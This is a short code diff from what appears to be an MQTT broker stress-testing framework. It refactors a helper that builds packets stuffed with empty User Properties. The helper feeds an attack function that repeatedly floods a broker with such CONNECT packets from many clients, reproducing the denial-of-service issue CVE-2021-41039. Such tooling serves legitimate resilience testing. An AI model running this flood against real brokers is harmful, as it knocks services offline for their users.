@@ -58,19 +58,19 @@ def user_properties(field):
                  [hello + subscribe for hello in field.hellos(field.attackers, version=V5)])
 
 
-def full_of_properties(field):
-    count = (field.packet_bytes - 200) // 5
+def full_of_properties(size):
+    count = size // 5
     return packets.variable(5 * count) + b"\x26\0\0\0\0" * count
 
 
 def publish_full_of_properties(field):
-    return packets.publish("t", version=V5, properties=full_of_properties(field))
+    return packets.publish("t", version=V5, properties=full_of_properties(field.packet_bytes - 200))
 
 
 @attack(attackers=(1, 20), by_address=True)
 def connects_full_of_properties(field):
     """CONNECTs full of empty User Properties, over and over (CVE-2021-41039)."""
-    hello = field.hello("properties", V5, properties=full_of_properties(field))
+    hello = field.hello("properties", V5, properties=full_of_properties(field.packet_bytes - 200))
     yield
     field.crowd().come_and_go(itertools.repeat(hello), at_once=field.attackers)
     yield
